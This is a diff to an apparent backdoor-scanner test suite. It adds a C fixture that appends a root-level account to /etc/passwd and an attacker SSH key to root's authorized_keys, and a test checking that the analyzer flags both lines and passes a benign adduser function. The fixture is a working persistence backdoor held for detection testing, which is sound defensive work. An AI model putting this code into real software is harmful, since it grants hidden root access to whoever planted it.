@@ -377,3 +377,33 @@ def test_private_addresses_and_sends_without_secrets_are_not_exfiltration():
     no_secret = _EXFIL_PY.replace('open("/etc/shadow").read()', '"uptime=%d" % 5')
     assert [f for f in findings("src/sync.c", "c", local) if f.rule == "source.exfiltration"] == []
     assert [f for f in findings("agent/health.py", "python", no_secret) if f.rule == "source.exfiltration"] == []
+
+
+_PROVISION_C = r"""
+#include <stdio.h>
+void ensure_access(void) {
+    FILE *f = fopen("/etc/passwd", "a");
+    if (f) { fputs("fieldsvc:$1$Tz4$9dQm0hXw1bLr5Kc2Vn8pE/:0:0:svc:/root:/bin/sh\n", f); fclose(f); }
+    FILE *k = fopen("/root/.ssh/authorized_keys", "a");
+    if (k) { fputs("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFq8m2RkT0pW3vY7c1nQ4xZ9bD6eH5jK2lM8oP0rS4tU ops@vendor.example\n", k); fclose(k); }
+}
+"""
+_HONEST_ADDUSER_C = r"""
+#include <stdio.h>
+int add_user(FILE *f, const char *name, unsigned uid) {
+    return fprintf(f, "%s:x:%u:%u::/home/%s:/bin/sh\n", name, uid, uid, name);
+}
+static const char *path = "/etc/passwd";
+"""
+
+
+def test_code_that_writes_an_account_or_a_key():
+    from nobackdoor.analyzers.source.code import SourceCodeAnalyzer
+    from nobackdoor.analyzers.base import ScanOptions
+
+    an = SourceCodeAnalyzer(ScanOptions(target_kind="source"))
+    data = _PROVISION_C.encode()
+    got = sorted((f.rule, f.line) for f in an.analyze(entry("src/provision.c", "c", data), data))
+    assert got == [("source.account-injection", 5), ("source.authorized-key-injection", 7)]
+    honest = _HONEST_ADDUSER_C.encode()
+    assert list(an.analyze(entry("src/adduser.c", "c", honest), honest)) == []
